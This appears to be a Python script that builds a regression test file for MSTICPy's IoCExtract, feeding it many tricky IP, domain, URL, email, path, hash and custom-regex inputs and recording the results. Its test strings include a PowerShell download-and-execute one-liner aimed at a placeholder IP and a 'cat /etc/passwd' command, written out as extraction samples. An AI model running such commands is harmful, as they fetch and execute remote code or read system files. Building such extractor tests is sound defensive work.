#!/usr/bin/env python3
"""Writes iocextract-cases.json: inputs with the answers of MSTICPy 3.0.2's IoCExtract.

Run with msticpy 3.0.2 and tldextract 5.4.0 installed, offline: python3 generate_iocextract.py
The public suffixes are those of the list that tldextract 5.4.0 comes with.
"""

import json
import logging
import pathlib
import platform
import random
import signal

import msticpy
import pandas as pd
import tldextract

logging.disable(logging.CRITICAL)
tldextract.extract = tldextract.TLDExtract(suffix_list_urls=(), cache_dir=None)

from msticpy.transform.iocextract import IoCExtract  # noqa: E402

HERE = pathlib.Path(__file__).parent
SECONDS = 5  # Then a call counts as hanging.
MD5 = "9e107d9d372bb6826bd81d3542a419d6"
SHA1 = "2fd4e1c67a2d28fced849ee1bb76e7391b93eb12"
SHA256 = "d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592"

TEXTS = [
    # Addresses
    "connect 198.51.100.7:443 from 10.20.30.40",
    "198[.]51[.]100[.]7 and 198.51[.100.]8 and 198[.51[.100[.9",
    "1.2.3.4.5 12345.6.7.8 1.2.3.4567 300.400.500.600 01.02.03.004",
    "v1.2.3.4-rc 1.2.3 .1.2.3.4. 1..2.3.4 1.2.3.4x 1,2.3.4.5",
    "1.2.3.4\n5.6.7.8\r\n9.10.11.12\t13.14.15.16",
    "[::1] ::ffff:10.0.0.1 fe80::1%eth0 2001:db8::2:1, 2001:DB8::1.",
    "12:34:56 aa:bb:cc:dd:ee:ff 1:2:3:4:5:6:7:8 1:2:3:4:5:6:7:8:9 : :: ::: :::::::::",
    "12345::1 g::1 x1::2 _1::2 1::2_ é1::2 1::2é (1::2) 1::2\u0301 \u203f1::2 ²1::2 1::2Ⅷ",
    "abcd:ef01:: ::abcd .::1 ::1. ::1: a::b::c dead:beef",
    # Names
    "Mail.Example.ORG, www.example.co.uk; sub-domain.example-site.net.",
    "a.b.c.d.e.f.com a--b.com -a.com a-.com a_b.com a.-b.com a.b-.com",
    "run.sh script.py file.zip clip.mov setup.exe notes.txt Microsoft.NET readme.md",
    "example[.]com example[.com example.]com www[.]example.com x[.]y[.]example[.]com",
    "example [.] com example(.)com example[dot]com example.[com example].com ].com [.com",
    "x." * 130 + "com",
    "x." * 126 + "com",
    "x." * 127 + "c1." + "y" * 63 + ".com",
    "ab." * 200,
    "a." * 200 + "bb" + ".1" * 130,
    "q" * 63 + ".com " + "q" * 64 + ".com " + "q" * 65 + "-r.com",
    "abc." + "d" * 62 + " abc." + "d" * 63 + " abc." + "d" * 64 + " abc." + "d" * 130 + ".net",
    "münchen.de пример.рф xn--e1afmkfd.xn--p1ai аpple.com 例え.jp éa.com a.comé",
    "ſite.com \u212aiosk.com fİne.com lıne.com example.u\u212a",
    "example.onion abc.i2p abc.ck www.ck abc.kh abc.bd foo.er example.arpa localhost.localdomain",
    "example.com. example.com.. ..example.com example..com example.com/ example.com:80",
    "3com.com 1.com 1.2.com 1.2.3.com 1.2.3.4.com 1.2.3.4com",
    "sentence.Next and e.g.this or Word.Another.third",
    # URLs
    "see http://example.com/a/b?c=d#e and HTTPS://EXAMPLE.COM:8443/ now",
    "hxxp://evil[.]example/x hXXps://evil[.]example[.]net/y fxp://a[.]b/c hxxps://[evil].com",
    "ftp://u:p@files.example.org/pub sftp://h ftps://h sftps://h telnet://h:23 ldap://dc/ file:///c:/x",
    "xhttp://a.com httphttp://b.com shttps://c.com sfxp://d.com sfxps://e.com ssftp://f.com",
    "http:// https://? ftp://# http://@ http://: http:/// http://%41 http://%4 http://%zz",
    "http://a.com/x'y) http://b.com/x,y; http://c.com/x|y http://d.com/x\"y http://e.com/x<y>",
    "http://a.com/x\u2003y http://b.com/x\u0085y http://c.com/x\u001cy http://d.com/x\u200by",
    "http://münchen.de/pfad http://a.com/münchen?ü=1#ü",
    "http://[2001:db8::1]:80/x http://1.2.3.4:99999/x http://a.com:٣٤/x http://a.com:/x http://a.com:x",
    "http://a@b@c.com http://a:b:c@d.com http://a%40b@c.com http://a[b]@c.com",
    "http://a.com/?u=http%3A%2F%2Fb.com%2Fx",
    "http://a.com/?u=http%3A%2F%2Fb.com%2Fx http://c.com/?u=http%3A%2F%2Fd.com%2Fy",
    "éé http://a.com/%E2%82%AC http://b.com/%C3%28é%E2%82 http://c.com/%2520",
    "http://a.com/http://b.com/ http://a.com?http://b.com http://a.com#http://b.com",
    "http://a.com/%0Ahttp://b.com http://a.com/%20%22http://b.com",
    "HTTP://A.COM/hXXp[.]x hXXp://a[.]com/fXp[.]y",
    "http://x http://y. http://z, http://www (http://w)",
    "http\u017f://a.com f\u0131le:///x f\u0130le:///y",
    "http://a.com/1 http://a.com/1 http://A.com/1",
    "https://host-only/ https://1.2.3.4/ https://a.b.c./",
    # Mail
    "user@example.com <User.Name+tag@sub.example.co.uk>; a@b.invalidtld",
    "user[at]example[.]com user[AT]example.com user[At]example[.com user(at)example.com",
    "//user@example.com from=x@y.com mailto:a@b.com a@b@c.com @a.com a@.com a@com",
    "üser@example.com user@exämple.com us er@example.com user@1.2.3.4",
    "a@b-c.com a@-b.com a@b--c.com a@b.c a@b.cc1 x@[at]y.com x[at]@y.com",
    "`{|}~-!#$%&'*+/=?^_@odd.com a..b@c.com .a@c.com",
    "http://user:pw@example.com/ and user@example.com",
    # Paths of Windows
    r"C:\Windows\System32\cmd.exe /c dir d:\x 'E:\a b\c d.txt' F:/x",
    r'"C:\Program Files\App\a b.exe" \\srv\share\x.txt \\srv-1.lan\c$\y \\?\C:\z',
    r"..\..\a.bat .\b.ps1 ...\c a.\d a..\e \f \\g \\\h \\\\i",
    r"C:\a\b\ C:\ C: C:\\ C:\\a C:\a\\b \\a\ \\a \\a\\b",
    r"HKLM\Software\Microsoft\Windows\Run\x=y C:\a:b\c C:\a*b\c C:\a|b\c C:\a'b\c",
    "C:\\a\r\nD:\\b\\\nc\\d",
    "C:\\dir\\ü\\é.txt İ:\\x \u212a:\\y 1:\\z \\\\sérv\\x",
    r"a\b\c d\e f\ g \ h\i \ \ \j",
    r"\\a\b\"c\d\e:f\g'h\i*j\k?l\m<n\o>p\q|r\s",
    "\\\\.\\pipe\\x \\\\server\\ipc$ \\Device\\HarddiskVolume1\\x",
    # Paths of Linux
    "/usr/bin/python3 /tmp/x.sh; cat /etc/passwd > ~/out ./run ../up .../dots",
    "// /// a/b/c /a//b/c ///a/b /a/ /a/b/ / /a b/c d/e",
    "/31/2020 and/or w/o n/a 1/2 http://a.com/x/y //srv/share",
    "/a\\b/c /a:b/c /a*b/c /a?b/c /a<b/c /a|b/c '/a b'/c \"/d e/f\"",
    "/a\0b/c /a/\0/d \0/e /f\n/g\r/h\t/i",
    "/ü/é/ø /日本/語 .é/x",
    "/ / / /x /a/ / /b /a /\0/ .// ..// .//x ./ /y",
    # Hashes
    f"{MD5} {SHA1} {SHA256}",
    f"{MD5}\n{MD5.upper()}\n{SHA1}\n\n{SHA256}\n",
    f"{MD5},{MD5[::-1]},{MD5.upper()},{SHA1}",
    f"x{MD5}x 0x{MD5} {MD5}g {MD5}a {MD5[1:]} ({MD5}) '{SHA1}' \"{SHA256}\"",
    f"{MD5}{SHA1} {SHA1}{SHA1[:24]} {SHA256}{SHA256} md5={MD5};sha1={SHA1}",
    f"{MD5}é{SHA1}ü {MD5}\r\n{SHA1}\r{SHA256}",
    f"{'f' * 32}.com {'a' * 40}.{'b' * 64}.net @{MD5}@{SHA1}",
    f" {MD5}  {MD5[::-1]} ",
    # Several at once
    f"powershell IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7:8080/a.ps1') # {MD5}",
    r"netsh trace start tracefile=C:\\Users\\user\\AppData\\x.etl IPv4.Address=192.0.2.1",
    "<a href=\"http://example.com/?q=1&amp;r=2\">example.com</a> &lt;b@c.org&gt;",
    '{"url": "https:\\/\\/a.com\\/b", "ip": "203.0.113.9", "h": "' + SHA256 + '"}',
    "hxxps://docs[.]example[.]com/d/1 mailto:abuse[at]example[.]com 203[.]0[.]113[.]5",
    "a\u0000b.com\u0000http://c.com\u0000/d",
    "😀http://a.com😀 😀/x😀/y C:\\😀\\z 😀@a.com a@b.com😀",
    "\u2028example.com\u2029/x\u2028http://b.com\u2028",
    "%68%74%74%70://a.com http://%65xample.com/%2e%2e/%2E http%3A%2F%2Fa.com",
    ":// http:/ http:// /http://x :http://y .http://z @http://w",
    "plain words only, nothing to find here",
    ".",
    "[.]",
    "[at]",
    "\\",
    "/",
    ":",
    "@",
    "a",
    "\u00e9",
    "\ufeffexample.com \u200bexample.org\u200b",
    "x" * 300 + "@" + "y" * 63 + ".com",
    "\\a" * 40 + "\\ ",
    "/a" * 40 + "/ ",
    "1." * 40,
    ":1" * 40,
    "[.]a" * 40,
    "http://a" * 20,
    "a@" * 20 + "b.com",
]

SEEDED = 120
PIECES = [
    *["a", "b.c", "com", ".com", ".net", ".ck", ".exe", "[.]", "[.", ".]", "[", "]", "@", "[at]"],
    *["http://", "hxxp://", "hXXps://", "sfxps://", "file:///", "://", ":", "::", "/", "//", "\\"],
    *["\\\\", "..", ".", "-", "--", "%20", "%3A%2F%2F", "%25", "%", "?", "#", "&", '"', "'", "<"],
    *["|", "*", "\r\n", "\n", " ", "\t", "\0", "1", "255", "1.2.3.4", MD5, SHA1, SHA256, "é", "ı"],
    *["\u212a", "٣", "\u0301", "\u2003", "\x1c", "_", "$", "fe80", "C:\\", "\\srv", "www.", "😀"],
]

OBSERVABLES = [
    *["203.0.113.9", "203[.]0[.]113[.]9", "999.1.1.1", "1.2.3", "1.2.3.4.5", "::", "::1", "1::2::3"],
    *["fe80::1", "1:2", "example.com", "example[.]com", "example.[com", "EXAMPLE.Co.Uk", "com"],
    *["host", "a.b", "example.web", "q" * 64 + ".com", "x." * 126 + "com", "x." * 127 + "com"],
    *["example.com\n", "\nexample.com", "ab.cd.ef", "ab.c1", "a.com.ab", "1.2.3.4.ab"],
    *["http://a.com", "http://a.com ", "hxxp://a[.]com/b", "http://", "http://a.com/é?x", "xhttp://a"],
    *["u@a.com", "u[at]a[.]com", "u@a", "@a.com", "u@a.com.", "a@b@c.com", "u@a.zzzz"],
    *["C:\\a", "C:\\", "C:\\a\\", "C:\\a b", "C:\\a b\\c", "\\a", "\\\\s\\a", "\\\\a", "\\\\\\a"],
    *["..\\a", ".a\\b", "a\\b", "C:a", "\\\\s\\\\a", "C:\\\\a", "\\a:b\\c", "\\a\\b:c", "\\\\é\\a"],
    *["/a", "/", "//", "//a", "///a/b", "/a/b/", "/a//b", "/a b/c", "/a b", "./a", "../a", ".//a"],
    *["a/b", "/a:b/c", "/a/b:c", "/a\nb", MD5, MD5.upper(), SHA1, SHA256, f'"{MD5}"', f"{MD5}\n"],
    *[f"\n{MD5}", f"x{MD5}", f"{MD5}xx", f"  {MD5}", MD5[1:], "z" * 32, " " + "z" * 40, ""],
    *["\x1c" + "z" * 64, "é" * 32, "x" * 128, "a\u0130\\b"],
]
KINDS = [
    *["ipv4", "ipv6", "dns", "hostname", "url", "email", "windows_path", "linux_path"],
    *["md5_hash", "sha1_hash", "sha256_hash", "file_hash", "nosuch"],
]


def custom(pattern, name="own", priority=0, group=None, defang_pattern=None):
    return {
        "name": name,
        "pattern": pattern,
        "priority": priority,
        "group": group,
        "defang_pattern": defang_pattern,
    }


def call(name, text, add=(), options=None, call="extract", before=()):
    return {
        "name": name,
        "before": list(before),
        "add": list(add),
        "call": call,
        "text": text,
        "options": options or {},
    }


CVE = r"CVE-\d{4}-\d{4,}"
SAMPLE = f"CVE-2021-44228, cve-2014-0160! 1.2.3.4 a.com Ünï_x1 tag:#9 iİıI kK\u212a\n{MD5}\n[x] a.b\tend"
# Each is searched for in SAMPLE. What Python refuses must be refused.
SYNTAX = [
    *[CVE, r"\bcve-\d+", "(?P<year>\\d{4})-\\d", "[a-z]+", "[^a-z\\s]+", "[İ]", "[h-j]+", "i", "ı"],
    *["k", "[K]", "s", "\u212a", "é|ü", r"\w+", r"\W+", r"\d+", r"\D+", r"\S+", r"[\w.]+", r"[^\W\d_]+"],
    *["^.", ".$", r"\A.", r".\Z", r"\Bi", "a b", "a\\ b", "x # comment", "(?# comment)cve", "[ #]+"],
    *["a{2}", "\\d{2,3}", "\\d{,2}4", "\\d{4,}", "a{", "a{x}", "{", "}", "a{,}", "a{1,2}?", "\\d+?"],
    *["]", "[]x]+", "[^]x]", "[a-]", "[-a]+", "[x-]", "[[x]", "[a&&b]+", "[a--b]", "[a~~b]", "[.-/]"],
    *[r"\<", r"\>", r"\-", r"\#9", r"\x41?1", r"\u00dc", r"\U000000dc", r"\101", r"\0", r"[\b]", r"\t"],
    *["(a)(b)?", "(?:a|b)+", "(?i)cve", "(?x)c v e", "(?s).+", "(?s:.)e", "(?-i:CVE)", "(?i-x: c)"],
    *["(?m)^cve", "(?u)ü", "\\.", "a|", "|a", "", "()", "a**", "*a", "a+*", "a{2}{3}", "^*", "(?:)*"],
    *["(", ")", "[", "a{3,2}", "\\", "\\q", "[z-a]", "[\\d-z]", "(?P<1>a)", "(?P<a>a)(?P<a>b)"],
    *["(?z)a", "x(?i)a", "\\x4", "(?P", "(?", "(?P<n", "\\p{L}", "\\z", "(?<n>a)", "[\\A]", "\\400"],
]
# Python takes these; a linear engine cannot.
BEYOND = ["(a)\\1", "(?P<a>a)(?P=a)", "(?=a)", "(?!a)", "(?<=a)b", "(?<!a)b", "(?>a)", "a++", "a{2}+"]

NETWORK_SAMPLE = "hxxp://a[.]com/x u@a[.]com 1[.]2[.]3[.]4 http://b.com/?u=http%3A%2F%2Fc.com"
CALLS = [
    *[call(f"syntax {i}", SAMPLE, [custom(p)], {"ioc_types": ["own"]}) for i, p in enumerate(SYNTAX)],
    *[call(f"beyond {i}", SAMPLE, [custom(p)], {"ioc_types": ["own"]}) for i, p in enumerate(BEYOND)],
    call("priority wins", "1.2.3.4", [custom(r"\d+\.[\d.]+", priority=-1)]),
    call("equal priority loses", "1.2.3.4", [custom(r"\d+\.[\d.]+", priority=0)]),
    call("lower priority loses", "1.2.3.4", [custom(r"\d+\.[\d.]+", priority=5)]),
    call("first of two", "cve-1", [custom("cve-1", "one"), custom("cve-1", "two")]),
    call("group", "id=77;id=88", [custom(r"id=(?P<n>\d+)", group="n")]),
    call("group of the host", "id=77", [custom(r"id=(?P<host>\d+)")]),
    call("group that is missing", "id=77", [custom(r"id=(\d+)", group="n")]),
    call("group that is missing, nothing found", "x", [custom(r"id=(\d+)", group="n")]),
    call("group that takes no part", "a1 a", [custom(r"a(?P<n>\d)?", group="n")], {"ioc_types": ["own"]}),
    call("plain only, defanged", "cve-1", [custom("cve-1", defang_pattern=False)]),
    call("plain only, plain", "cve-1", [custom("cve-1", defang_pattern=False)], {"defanged": False}),
    call("defanged only, defanged", "cve-1", [custom("cve-1", defang_pattern=True)]),
    call("defanged only, plain", "cve-1", [custom("cve-1", defang_pattern=True)], {"defanged": False}),
    call("defanged only, cell", "cve-1", [custom("cve-1", defang_pattern=True)], call="extract_df"),
    call("both, cell", "cve-1", [custom("cve-1")], call="extract_df"),
    call("replaced", "1.2.3.4 x9", [custom(r"x\d", "ipv4")]),
    call("replaced dns", "example.com x.exe a@b.co.uk //c.com:8/x?y", [custom(r"\S+", "dns", -1)]),
    call("replaced dns, refanged", "a[.]com", [custom(r"\S+", "dns", -1)], {"defanged": False}),
    call("replaced dns, bare", "bd", [custom(r"\S+", "dns", -1)], {"ioc_types": ["dns"]}),
    call("replaced url", "go://a.com/%67o://b", [custom(r"go://(?P<host>[a-z.]+)", "url", -1)]),
    call("replaced url, group", "go://a/%67o://b", [custom(r"go://(?P<host>[a-z.]+)", "url", 0, "host")]),
    call("replaced url, no host", "go://a.com", [custom(r"go://[a-z.]+", "url")]),
    call("custom validate", "cve-2020-1234", [custom(CVE)], {"type": "own"}, "validate"),
    call("custom validate, alternatives", "ab", [custom("a|ab")], {"type": "own"}, "validate"),
    call("custom validate, lazy", "aaa", [custom("a+?")], {"type": "own"}, "validate"),
    call("custom validate, part", "cve-2020-1234x", [custom(CVE)], {"type": "own"}, "validate"),
    call("custom validate, not defanged", "x", [custom("x", defang_pattern=False)], {"type": "own"}, "validate"),
    call("custom type", "cve-2020-1234", [custom(CVE)], call="get_ioc_type"),
    call("types none", NETWORK_SAMPLE, options={"ioc_types": []}),
    call("types url", NETWORK_SAMPLE, options={"ioc_types": ["url"]}),
    call("types url, plain", NETWORK_SAMPLE, options={"ioc_types": ["url"], "defanged": False}),
    call("types dns", NETWORK_SAMPLE, options={"ioc_types": ["dns"]}),
    call("types unknown", NETWORK_SAMPLE, options={"ioc_types": ["nosuch"]}),
    call("types of a cell", "/a/b C:\\x a.com", options={"ioc_types": ["linux_path"]}, call="extract_df"),
    call("paths of a cell", "/a/b C:\\x a.com", options={"include_paths": True}, call="extract_df"),
    call("any suffix of a cell", "a.exe", options={"ignore_tlds": True}, call="extract_df"),
    call("plain cell", NETWORK_SAMPLE, options={"defanged": False}, call="extract_df"),
    call("empty string", ""),
    call("blank string", " \t\n\x1c\u2003"),
    call("blank cell", "  ", call="extract_df"),
    call("null cell", None, call="extract_df"),
    call("a type leaks", "cve-1", before=[call("", "x", [custom("cve-1", "leaked")])]),
    call(
        "a setting leaks",
        "cmd.exe",
        call="get_ioc_type",
        before=[call("", "x", options={"ignore_tlds": True})],
    ),
    call("backslashes", "\\" * 250 + '"'),
    call("a long word", "a" * 60_000),
]


class Hang(Exception):
    pass


def raise_hang(*_):
    raise Hang


def run(extractor, case):
    """One call; its answer as JSON."""
    options = dict(case["options"])
    text = case["text"]
    for pattern in case["add"]:
        extractor.add_ioc_type(
            pattern["name"],
            pattern["pattern"],
            pattern["priority"],
            pattern["group"],
            pattern["defang_pattern"],
        )
    if case["call"] == "extract":
        found = extractor.extract(text, **options)
        return {kind: sorted(values, key=str) for kind, values in found.items()}
    if case["call"] == "extract_df":
        frame = extractor.extract_df(pd.DataFrame({"c": [text]}), "c", **options)
        return sorted(map(list, zip(frame["IoCType"], frame["Observable"])))
    if case["call"] == "validate":
        options["ioc_type"] = options.pop("type")
        return extractor.validate(text, **options)
    if case["call"] == "file_hash_type":
        return IoCExtract.file_hash_type(text).name
    return extractor.get_ioc_type(text)


def answer(case):
    """The answer of a fresh extractor to a call, after the calls before it."""
    IoCExtract._content_regex.clear()
    IoCExtract._content_df_regex.clear()
    extractor = IoCExtract()
    signal.signal(signal.SIGALRM, raise_hang)
    signal.setitimer(signal.ITIMER_REAL, SECONDS)
    try:
        for before in case["before"]:
            run(extractor, before)
        return run(extractor, case)
    except Hang:
        return {"hang": f"more than {SECONDS} s"}
    except Exception as error:  # noqa: BLE001
        return {"error": f"{type(error).__name__}: {error}"}
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)


def seeded():
    chance = random.Random(20)
    for _ in range(SEEDED):
        yield "".join(chance.choice(PIECES) for _ in range(chance.randint(2, 14)))


def answers_to(text):
    asked = {
        "default": call("", text),
        "plain": call("", text, options={"defanged": False}),
        "ignore_tlds": call("", text, options={"ignore_tlds": True}),
        "cell": call("", text, call="extract_df"),
        "cell_paths": call("", text, options={"include_paths": True}, call="extract_df"),
        "type": call("", text, call="get_ioc_type"),
    }
    return {"text": text, **{mode: answer(case) for mode, case in asked.items()}}


def validations():
    for text in OBSERVABLES:
        for kind in KINDS:
            for defanged in [True, False]:
                options = {"type": kind, "defanged": defanged}
                yield call("", text, options=options, call="validate")
    for text in OBSERVABLES:
        options = {"type": "dns", "ignore_tlds": True}
        yield call("", text, options=options, call="validate")
        yield call("", text, call="file_hash_type")
        yield call("", text, call="get_ioc_type")


def compact(case):
    """[call, text, type, defanged, ignore_tlds, answer]"""
    options = case["options"]
    found = answer(case)
    return [
        case["call"],
        case["text"],
        options.get("type"),
        options.get("defanged", True),
        options.get("ignore_tlds", False),
        found if not isinstance(found, dict) else "error",
    ]


def lines(items):
    return ",\n".join(json.dumps(item) for item in items)


def main():
    texts = [answers_to(text) for text in dict.fromkeys([*TEXTS, *seeded()]) if text.strip()]
    calls = [case | {"answer": answer(case)} for case in CALLS]
    checks = [compact(case) for case in validations()]
    meta = {
        "msticpy": msticpy.__version__,
        "tldextract": tldextract.__version__,
        "pandas": pd.__version__,
        "python": platform.python_version(),
    }
    (HERE / "iocextract-cases.json").write_text(
        f'{{"meta": {json.dumps(meta)},\n"texts": [\n{lines(texts)}\n],\n'
        f'"calls": [\n{lines(calls)}\n],\n"checks": [\n{lines(checks)}\n]}}\n'
    )
    print(len(texts), "texts,", len(calls), "calls,", len(checks), "checks")


if __name__ == "__main__":
    main()
